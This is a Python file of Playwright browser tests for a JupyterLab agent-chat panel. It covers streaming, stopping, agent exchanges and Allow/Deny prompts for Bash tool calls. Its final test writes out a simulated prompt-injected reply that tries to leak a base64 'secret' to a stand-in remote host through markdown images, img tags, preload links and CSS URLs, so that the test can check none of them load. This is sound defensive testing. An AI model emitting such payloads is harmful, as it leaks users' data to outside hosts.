"""The run panel in a real JupyterLab, driven by a real Chromium through Playwright.

Level 6 of the spec's testing pyramid: a person's view. The test writes a notebook into
the server's folder, opens it, runs the cells with Shift+Enter, types into the panel's text
box and clicks its buttons, and reads the bubbles back from the DOM. The kernel is the
test venv's own python3 kernel (with ipykernel >= 7.4 the cell awaits the conversation,
spec mode 2; the ipykernel matrix is covered at kernel level, test_kernel_runs.py).

Test (a) also takes a screenshot of the panel mid-conversation, into the test's temporary
folder; with AWF_REFRESH_DOC_IMAGES=1 it refreshes docs/img/panel.png (docs/notebooks.md)
instead, so an ordinary test run never changes a tracked file.
"""

from __future__ import annotations

import json
import os
import re
import textwrap
from pathlib import Path
from typing import Any

import pytest

from tests.support.http_server import FakeHttpServer
from tests.support.jupyterlab import JupyterLabServer
from tests.support.kernels import REPO_ROOT
from tests.support.notebook_page import STEP_MS, NotebookPage
from tests.support.waiting import wait_until

pytestmark = [pytest.mark.browser, pytest.mark.slow]

DOC_SCREENSHOT = REPO_ROOT / "docs" / "img" / "panel.png"


def screenshot_path(tmp_path: Path) -> Path:
    """Where the panel screenshot goes: the docs image only when asked to refresh it."""
    if os.environ.get("AWF_REFRESH_DOC_IMAGES", "") not in ("", "0"):
        return DOC_SCREENSHOT
    return tmp_path / "panel.png"


CHAT_WORKFLOW = """
name: garden-chat
states:
  initial: chat
  chat:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Help me plan a small vegetable garden."
    options:
      delay_ms: 40
      replies:
        - "Happy to help! How much space do you have?"
        - "A **raised bed** of 1.2 m x 2.4 m fits a balcony corner nicely."
        - "Tomatoes and basil grow well together: water them every morning."
    on_success: done
  done: {type: terminal, message: "Garden planned."}
"""

LONG_REPLY = " ".join(f"word{n:02d}" for n in range(1, 81)) + " END-OF-LONG-REPLY"
STOP_WORKFLOW = f"""
name: long-story
states:
  initial: chat
  chat:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Tell stories."
    options:
      delay_ms: 150
      replies:
        - "Ask me for a story."
        - "{LONG_REPLY}"
        - "Short answer after the stop."
    on_success: done
  done: {{type: terminal}}
"""


def awf_cell(workflow: str, flags: str = "--out chat") -> str:
    return f"%%awf {flags}\n" + textwrap.dedent(workflow).lstrip()


@pytest.mark.parametrize("comms", ["perCommTarget", "disabled"], ids=["subshell", "main-shell"])
def test_conversation_typed_into_the_panel(
    page: Any, lab: JupyterLabServer, comms: str, tmp_path: Path
) -> None:
    """`comms` is JupyterLab's "Kernel Comms over subshells" setting: its default sends
    widget messages through a kernel subshell, "disabled" through the main shell (as
    frontends without subshell support do)."""
    lab.set_lab_setting(
        "@jupyterlab/apputils-extension:kernels-settings", {"commsOverSubshells": comms}
    )
    notebook = NotebookPage(
        page, lab, "conversation.ipynb", ["%load_ext awf_nb", awf_cell(CHAT_WORKFLOW)]
    )
    notebook.run_all_cells()
    notebook.wait_for_reply("How much space do you have?")

    notebook.send("I have a sunny balcony corner.")
    raised_bed = notebook.wait_for_reply("fits a balcony corner nicely")
    # Markdown rendered on the kernel side: **raised bed** arrives as <strong>.
    assert raised_bed.locator("strong").inner_text() == "raised bed"

    notebook.send("Which plants should I start with?")
    notebook.wait_for_reply("water them every morning")
    notebook.wait_until_ready_for_input()
    if comms == "perCommTarget":  # the docs show what most users get: JupyterLab's default
        screenshot = screenshot_path(tmp_path)
        screenshot.parent.mkdir(parents=True, exist_ok=True)
        notebook.panel.screenshot(path=str(screenshot))
        assert screenshot.stat().st_size > 0

    notebook.click("End conversation")
    notebook.wait_for_status("completed")
    notebook.wait_for_kernel_idle()

    replies = notebook.assistant_bubbles().all_inner_texts()
    assert any("fits a balcony corner nicely" in text for text in replies), replies
    assert any("water them every morning" in text for text in replies), replies
    users = notebook.user_bubbles().all_inner_texts()
    assert [u.strip() for u in users][-2:] == [
        "I have a sunny balcony corner.",
        "Which plants should I start with?",
    ], users
    # The path under test really was taken.
    assert bool(notebook.comm_subshells()) == (comms != "disabled"), notebook.comm_subshells()


def test_stop_during_a_streaming_reply_returns_to_input(page: Any, lab: JupyterLabServer) -> None:
    notebook = NotebookPage(page, lab, "stop.ipynb", ["%load_ext awf_nb", awf_cell(STOP_WORKFLOW)])
    notebook.run_all_cells()
    notebook.wait_for_reply("Ask me for a story.")

    notebook.send("Tell me a long one.")
    streaming = notebook.wait_for_reply("word03")
    notebook.click("Stop")

    notebook.panel.get_by_text(re.compile("interrupted", re.IGNORECASE)).first.wait_for(
        timeout=STEP_MS
    )
    notebook.wait_until_ready_for_input()
    cut = streaming.inner_text()
    page.wait_for_timeout(1000)  # a reply still streaming would grow in this second
    assert streaming.inner_text() == cut, "the reply kept streaming after Stop"
    assert "END-OF-LONG-REPLY" not in cut
    assert "word80" not in cut

    notebook.send("And now a short one?")
    notebook.wait_for_reply("Short answer after the stop.")
    notebook.click("End conversation")
    notebook.wait_for_status("completed")
    notebook.wait_for_kernel_idle()


EXCHANGE_WORKFLOW = f"""
name: haiku-exchange
states:
  initial: draft
  draft:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Write a haiku about rain."
    options:
      delay_ms: 150
      replies:
        - "{LONG_REPLY}"
        - "Snow on the branches."
        - "Snow on quiet branches."
    conversation:
      with:
        name: reviewer
        provider: scripted
        options: {{replies: ["Make it quieter.", "APPROVED"]}}
      until: 'message == "APPROVED"'
      max_turns: 5
    on_success: done
  done: {{type: terminal}}
"""


def test_an_agent_exchange_is_labelled_and_stop_lets_the_person_take_over(
    page: Any, lab: JupyterLabServer
) -> None:
    notebook = NotebookPage(
        page, lab, "exchange.ipynb", ["%load_ext awf_nb", awf_cell(EXCHANGE_WORKFLOW)]
    )
    notebook.run_all_cells()
    notebook.wait_for_reply("word03")  # the writer's first draft is streaming
    # The text box says what typing there does while the agents talk.
    placeholder = notebook.textarea.get_attribute("placeholder") or ""
    assert "draft and reviewer are talking. Type here and Send to step in" in placeholder
    notebook.click("Stop")  # pause the exchange: the person speaks next
    notebook.send("Make it about snow.")
    notebook.wait_for_reply("Snow on the branches.")

    partner = notebook.panel.locator(".awf-partner").filter(has_text="Make it quieter.")
    partner.first.wait_for(timeout=STEP_MS)
    # Every speaker is named: the writer (its step), the reviewer, and the person.
    labels = [label.strip() for label in notebook.panel.locator(".awf-speaker").all_inner_texts()]
    assert labels[:4] == ["draft", "you", "draft", "reviewer"], labels
    notebook.wait_for_reply("Snow on quiet branches.")
    notebook.panel.locator(".awf-partner").filter(has_text="APPROVED").first.wait_for(
        timeout=STEP_MS
    )
    notebook.wait_for_status("completed")
    notebook.wait_for_kernel_idle()
    users = [u.strip() for u in notebook.user_bubbles().all_inner_texts()]
    assert users == ["Write a haiku about rain.", "Make it about snow."], users


TOOLS_WORKFLOW = """
name: tidy-files
states:
  initial: assist
  assist:
    type: agent
    provider: scripted
    mode: conversation
    prompt: "Write hello into a file."
    options:
      delay_ms: 40
      replies:
        - {text: "I will write it.", tool_calls: [{name: Bash, arguments: {command: "echo hi > hello.txt; echo wrote-hello"}}]}
        - "Done, hello.txt says hi."
        - {text: "Removing it.", tool_calls: [{name: Bash, arguments: {command: "rm hello.txt"}}]}
        - "Then it stays."
    tools: {builtin: [Bash], confirm: [Bash]}
    on_success: done
  done: {type: terminal}
"""


def test_tool_calls_are_blocks_with_allow_and_deny(page: Any, lab: JupyterLabServer) -> None:
    notebook = NotebookPage(
        page,
        lab,
        "tools.ipynb",
        ["%load_ext awf_nb", awf_cell(TOOLS_WORKFLOW)],
    )
    notebook.run_all_cells()
    notebook.wait_for_reply("I will write it.")
    first = notebook.panel.locator(".awf-tool-call").nth(0)
    first.locator("summary").filter(has_text="waiting for your answer").wait_for(timeout=STEP_MS)
    assert "echo hi > hello.txt" in first.locator("summary").inner_text()
    notebook.click("Allow")

    first.locator("summary").filter(has_text="wrote-hello").wait_for(timeout=STEP_MS)
    notebook.wait_for_reply("hello.txt says hi")
    assert notebook.panel.get_by_role("button", name="Allow").count() == 0
    assert (lab.root / "hello.txt").read_text() == "hi\n"
    first.locator("summary").click()  # open the block: the whole result is inside
    first.locator("pre").filter(has_text="wrote-hello").first.wait_for(timeout=STEP_MS)

    notebook.send("Now remove it.")
    second = notebook.panel.locator(".awf-tool-call").nth(1)
    second.locator("summary").filter(has_text="waiting for your answer").wait_for(timeout=STEP_MS)
    notebook.click("Deny")
    second.locator("summary").filter(has_text="refused").wait_for(timeout=STEP_MS)
    notebook.wait_for_reply("Then it stays.")
    notebook.click("End conversation")
    notebook.wait_for_status("completed")
    notebook.wait_for_kernel_idle()

    assert (lab.root / "hello.txt").exists()
    assert notebook.panel.get_by_role("button", name="Deny").count() == 0
    kinds = notebook.panel.locator(".awf-assistant, .awf-user, .awf-tool-call").evaluate_all(
        "items => items.map(item => item.classList.contains('awf-tool-call') ? 'tool'"
        " : item.classList.contains('awf-user') ? 'user' : 'reply')"
    )
    assert kinds == ["user", "reply", "tool", "reply", "user", "reply", "tool", "reply"], kinds


def untrusted_workflow(remote: str) -> str:
    """A run whose reply (and command output) try every way to make the browser fetch from
    `remote` by itself, as a prompt-injected model that read a file would."""
    reply = (
        f"Summary ready. ![chart]({remote}/markdown-image?d=c2VjcmV0) "
        f"<img src='{remote}/raw-img'> <link rel=preload as=image href='{remote}/preload'> "
        f"<div style='background:url({remote}/css-url)'>bg</div> ![ref][r] END-OF-REPLY"
        f"\\n\\n[r]: {remote}/reference-image"
    )
    return f"""
name: untrusted
states:
  initial: build
  build:
    type: step
    command: printf '<img src="{remote}/command-output">'
    on_success: answer
  answer:
    type: agent
    provider: scripted
    prompt: "Summarise the notes."
    options:
      replies: ["{reply}"]
    on_success: done
  done: {{type: terminal}}
"""


def remote_requests_after_a_control(page: Any, remote: Any, control: str) -> list[str]:
    """The paths `remote` was asked for, once a request the test makes itself (`control`,
    an image added to the page now, named `control-…`) has arrived: the page's own elements
    were put in before it, so their requests, if any, were sent before it."""
    page.evaluate(
        "url => { const img = document.createElement('img'); img.src = url;"
        " document.body.appendChild(img); }",
        f"{remote.url}/{control}",
    )
    wait_until(lambda: any(seen.path == f"/{control}" for seen in remote.requests), control)
    return [seen.path for seen in remote.requests if not seen.path.startswith("/control-")]


def test_nothing_in_a_reply_loads_from_another_host_without_a_click(
    page: Any, lab: JupyterLabServer, chromium: Any
) -> None:
    """The live panel and the saved notebook's HTML: the "remote" host (a server on another
    port of 127.0.0.1) is never asked for anything until the person clicks."""
    with FakeHttpServer() as remote:
        notebook = NotebookPage(
            page,
            lab,
            "untrusted.ipynb",
            ["%load_ext awf_nb", awf_cell(untrusted_workflow(remote.url), flags="")],
        )
        notebook.run_all_cells()
        notebook.wait_for_reply("END-OF-REPLY")
        notebook.wait_for_status("completed")
        notebook.wait_for_kernel_idle()

        assert remote_requests_after_a_control(page, remote, "control-live") == []
        link = notebook.panel.locator("a.awf-remote-image").first
        assert link.get_attribute("href") == f"{remote.url}/markdown-image?d=c2VjcmV0"
        assert notebook.panel.locator("img").count() == 0

        # The notebook as saved: the panel's static HTML, shown without a kernel.
        page.keyboard.press("Control+s")
        saved_path = lab.root / "untrusted.ipynb"
        wait_until(lambda: "awf-remote-image" in saved_path.read_text(), "the saved notebook")
        saved = json.loads(saved_path.read_text())
        (html,) = [
            "".join(output["data"]["text/html"])
            for output in saved["cells"][1]["outputs"]
            if "text/html" in output.get("data", {})
        ]
        reader = chromium.new_page()
        try:
            reader.set_content(f"<html><body>{html}</body></html>")
            reader.locator("a.awf-remote-image").first.wait_for(timeout=STEP_MS)
            assert remote_requests_after_a_control(reader, remote, "control-saved") == []
        finally:
            reader.close()

        # A click is the person's choice: then, and only then, the address is opened.
        with page.context.expect_page() as opened:
            link.click()
        opened.value.wait_for_load_state()
        assert "/markdown-image?d=c2VjcmV0" in [seen.path for seen in remote.requests]
